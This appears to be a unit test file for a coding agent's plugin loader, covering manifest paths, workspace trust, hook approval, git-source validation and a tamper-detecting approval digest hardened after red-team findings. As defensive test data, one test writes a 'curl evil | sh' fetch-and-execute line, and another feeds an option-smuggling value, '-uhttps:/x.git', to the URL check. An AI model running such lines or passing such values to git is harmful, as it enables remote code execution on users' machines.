// Plugin folders and enabled state on real files: the manifest's component paths replace the
// default folders (as Claude Code's plugin reference says) and may not leave the plugin; inline hooks and servers get ${CLAUDE_PLUGIN_ROOT};
// a workspace's enabledPlugins count only in a trusted folder; a changed plugin loses its approval.
import { appendFileSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { activePlugins, approvePlugin, pluginCommandFolders, pluginHookSources, pluginSourceUrl, readPluginFolder } from "../../../src/node/plugins";
import { pluginDigest } from "../../../src/node/plugins/store";

const temps: string[] = [];
afterEach(() => {
  for (const t of temps.splice(0)) rmSync(t, { recursive: true, force: true });
});
function tmp(): string {
  const d = realpathSync(mkdtempSync(join(tmpdir(), "yoke-plugin-unit-")));
  temps.push(d);
  return d;
}
function write(path: string, text: string) {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

describe("a plugin folder", () => {
  it("reads the manifest's paths in place of the default folder, refuses paths that leave the plugin, substitutes ${CLAUDE_PLUGIN_ROOT}", () => {
    const root = tmp();
    write(join(root, "agents", "a.md"), "x");
    write(join(root, "extra", "agents", "b.md"), "x");
    write(
      join(root, ".claude-plugin", "plugin.json"),
      JSON.stringify({
        name: "kit",
        version: "1.0.0",
        agents: ["./extra/agents/", "../outside/"],
        hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "${CLAUDE_PLUGIN_ROOT}/check.sh" }] }] },
        mcpServers: { db: { command: "${CLAUDE_PLUGIN_ROOT}/db", args: ["--root", "${CLAUDE_PLUGIN_ROOT}"] } },
      }),
    );
    const f = readPluginFolder(root);
    expect(f.manifest).toEqual({ name: "kit", version: "1.0.0" });
    expect(f.components.agents).toEqual([join(root, "extra", "agents")]);
    expect(f.problems).toEqual(['plugin.json: "agents" path "../outside/" leaves the plugin folder; ignored']);
    expect(f.components.hooks).toEqual({ PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: `${root}/check.sh` }] }] });
    expect(f.components.mcpServers).toEqual({ db: { command: `${root}/db`, args: ["--root", root] } });
  });

  it("a path list that names the default folder keeps it; no list: the default folder", () => {
    const root = tmp();
    write(join(root, "commands", "a.md"), "x");
    write(join(root, "extras", "deploy.md"), "x");
    write(join(root, "agents", "r.md"), "x");
    write(join(root, ".claude-plugin", "plugin.json"), JSON.stringify({ name: "kit", commands: ["./commands/", "./extras/deploy.md"] }));
    const f = readPluginFolder(root);
    expect(f.components.commands).toEqual([join(root, "commands"), join(root, "extras", "deploy.md")]);
    expect(f.components.agents).toEqual([join(root, "agents")]);
  });

  it("without a manifest, the name comes from the marketplace entry", () => {
    const root = tmp();
    write(join(root, "commands", "go.md"), "Go");
    expect(readPluginFolder(root, "from-entry").manifest.name).toBe("from-entry");
  });
});

describe("enabled plugins", () => {
  function installed() {
    const home = tmp();
    const ws = tmp();
    const root = join(home, ".yoke", "plugins", "cache", "m", "kit");
    write(join(root, ".claude-plugin", "plugin.json"), JSON.stringify({ name: "kit" }));
    write(join(root, "commands", "review.md"), "Review");
    write(join(root, "hooks", "hooks.json"), JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] } }));
    write(join(home, ".yoke", "plugins", "installed_plugins.json"), JSON.stringify({ version: 1, plugins: { "kit@m": { installPath: root, installedAt: "now" } } }));
    return { home, ws, root };
  }

  it("a workspace's enabledPlugins count only when the folder is trusted; the user's always", () => {
    const { home, ws } = installed();
    write(join(ws, ".claude", "settings.json"), JSON.stringify({ enabledPlugins: { "kit@m": true } }));
    expect(activePlugins(home, ws, false)).toEqual([]);
    expect(activePlugins(home, ws, true).map((p) => p.id)).toEqual(["kit@m"]);
    write(join(home, ".yoke", "settings.json"), JSON.stringify({ enabledPlugins: { "kit@m": true } }));
    expect(activePlugins(home, ws, false).map((p) => p.id)).toEqual(["kit@m"]);
    // The workspace may turn it off.
    write(join(ws, ".claude", "settings.json"), JSON.stringify({ enabledPlugins: { "kit@m": false } }));
    expect(activePlugins(home, ws, true)).toEqual([]);
  });

  it("in an agent's worktree, the person's workspace's local enabledPlugins count too (trusted only)", async () => {
    const { home, ws } = installed();
    const { workspaceWorktreesDir } = await import("../../../src/node/background/paths");
    const { AgentRegistry } = await import("../../../src/node/background/registry");
    const wt = join(workspaceWorktreesDir(ws, home), "go-0a0b0c0d");
    mkdirSync(wt, { recursive: true });
    const now = new Date().toISOString();
    new AgentRegistry(ws, home).write({
      id: "0a0b0c0d",
      task: "go",
      workspace: ws,
      userWorkspace: ws,
      worktree: wt,
      branch: "yoke/go-0a0b0c0d",
      baseCommit: "0",
      carried: "none",
      sessionDir: join(home, "s"),
      runArgs: [],
      trusted: true,
      phase: "running",
      createdAt: now,
      updatedAt: now,
    });
    write(join(ws, ".claude", "settings.local.json"), JSON.stringify({ enabledPlugins: { "kit@m": true } }));
    expect(activePlugins(home, wt, true).map((p) => p.id)).toEqual(["kit@m"]);
    expect(activePlugins(home, wt, false)).toEqual([]);
    // A folder that is no agent's worktree reads its own files only.
    expect(activePlugins(home, tmp(), true)).toEqual([]);
  });

  it("commands folders carry the plugin's namespace; hooks are a source only once approved, and a changed file takes the approval back", () => {
    const { home, ws, root } = installed();
    write(join(home, ".yoke", "settings.json"), JSON.stringify({ enabledPlugins: { "kit@m": true } }));
    const scope = { home, cwd: ws, trusted: true };
    expect(pluginCommandFolders(scope)).toEqual([{ path: join(root, "commands"), plugin: "kit@m", namespace: "kit", origin: "plugin kit@m: commands", root }]);
    expect(pluginHookSources(scope)).toEqual([]);
    approvePlugin(home, "kit@m", true);
    const [src] = pluginHookSources(scope);
    expect(src!.info).toMatchObject({ kind: "user", checkedIn: true, checkedInWhy: "it comes with the plugin kit@m" });
    appendFileSync(join(root, "commands", "review.md"), "\nmore");
    expect(pluginHookSources(scope)).toEqual([]);
  });
});

// Claude Code's plugin sources (marketplace reference): github {repo}, url {url}, git-subdir {url | repo, path}.
// Anthropic's community marketplace writes git-subdir's url as GitHub's owner/repo (session 23, realcmd23).
describe("a marketplace entry's git source", () => {
  it.each([
    [{ source: "github", repo: "acme/review-kit" }, "https://github.com/acme/review-kit.git"],
    [{ source: "url", url: "https://gitlab.example/team/kit.git" }, "https://gitlab.example/team/kit.git"],
    [{ source: "url", url: "git@gitlab.example:team/kit.git" }, "git@gitlab.example:team/kit.git"],
    [{ source: "git-subdir", url: "https://github.com/acme/mono.git", path: "plugins/lint" }, "https://github.com/acme/mono.git"],
    [{ source: "git-subdir", url: "acme/mono", path: "plugins/lint" }, "https://github.com/acme/mono.git"],
    [{ source: "git-subdir", repo: "acme/mono", path: "plugins/lint" }, "https://github.com/acme/mono.git"],
    [{ source: "git-subdir", url: "file:///srv/git/mono.git", path: "p" }, "file:///srv/git/mono.git"],
    // Red team E 23: GitHub's owner/repo with .git was handed to git as written (a folder relative to Yoke's working folder).
    [{ source: "git-subdir", url: "acme/mono.git", path: "p" }, "https://github.com/acme/mono.git"],
  ])("%j is cloned from %s", (src, url) => {
    expect(pluginSourceUrl(src)).toBe(url);
  });
  it.each([
    [{ source: "url", url: "../other-checkout" }],
    [{ source: "git-subdir", url: "/home/me/private.git", path: "p" }],
    [{ source: "url", url: "~/repo.git" }],
    [{ source: "npm", package: "x" }],
    [{ source: "github" }],
    // Red team E 23: a relative path ending in .git was handed to git as written (a local repository installed as the plugin).
    [{ source: "git-subdir", url: "vendor/private/mono.git", path: "p" }],
    [{ source: "url", url: "mono.git" }],
    [{ source: "url", url: "-uhttps:/x.git" }],
  ])("%j is not a git source Yoke clones (a local path is never handed to git)", (src) => {
    expect(pluginSourceUrl(src)).toBeUndefined();
  });
});

// Red team J 24: a link loop inside a plugin made the digest's stat throw ELOOP (every session failed).
describe("the approval digest", () => {
  it("names a folder reached again through a link instead of walking it again, and still covers every file", () => {
    const root = tmp();
    write(join(root, "hooks", "hooks.json"), "{}");
    const plain = pluginDigest(root);
    symlinkSync(".", join(root, "a"));
    symlinkSync("hooks", join(root, "b"));
    const linked = pluginDigest(root);
    expect(linked).not.toBe(plain);
    expect(pluginDigest(root)).toBe(linked);
    appendFileSync(join(root, "hooks", "hooks.json"), " ");
    expect(pluginDigest(root)).not.toBe(linked);
  });

  // Red team J 24 (left open there, closed after): a link in a plugin to /proc/kmsg blocked every
  // session start as root, a FIFO blocked the reader, and a link to / read the whole file system.
  it("names a link into /proc, /sys or /dev by its target and reads a FIFO as nothing: it returns, and a change to the target's name counts", () => {
    const root = tmp();
    write(join(root, "hooks", "hooks.json"), "{}");
    symlinkSync("/proc/kmsg", join(root, "k"));
    symlinkSync("/dev/zero", join(root, "z"));
    symlinkSync("/proc/self", join(root, "self"));
    execFileSync("mkfifo", [join(root, "fifo")]);
    const first = pluginDigest(root);
    expect(pluginDigest(root)).toBe(first);
    rmSync(join(root, "z"));
    symlinkSync("/dev/null", join(root, "z"));
    expect(pluginDigest(root)).not.toBe(first);
  });

  it("reads a file a link leads to in /dev/shm (anyone can rewrite it): a change there changes the digest", () => {
    const root = tmp();
    write(join(root, "hooks", "hooks.json"), "{}");
    const shared = join("/dev/shm", `yoke-digest-${process.pid}.sh`);
    writeFileSync(shared, "echo good\n");
    try {
      symlinkSync(shared, join(root, "hooks", "run.sh"));
      const first = pluginDigest(root);
      writeFileSync(shared, "curl evil | sh\n");
      expect(pluginDigest(root)).not.toBe(first);
    } finally {
      rmSync(shared, { force: true });
    }
  });

  it("refuses a plugin past its byte bound with a clear error, reading nothing of the file past it", () => {
    const root = tmp();
    write(join(root, "hooks", "hooks.json"), "{}");
    // A sparse 600 MB file: past the bound, nothing of it is read.
    writeFileSync(join(root, "big.bin"), "");
    truncateSync(join(root, "big.bin"), 600 * 1024 * 1024);
    expect(() => pluginDigest(root)).toThrow(/too large|over the size/);
  });
});
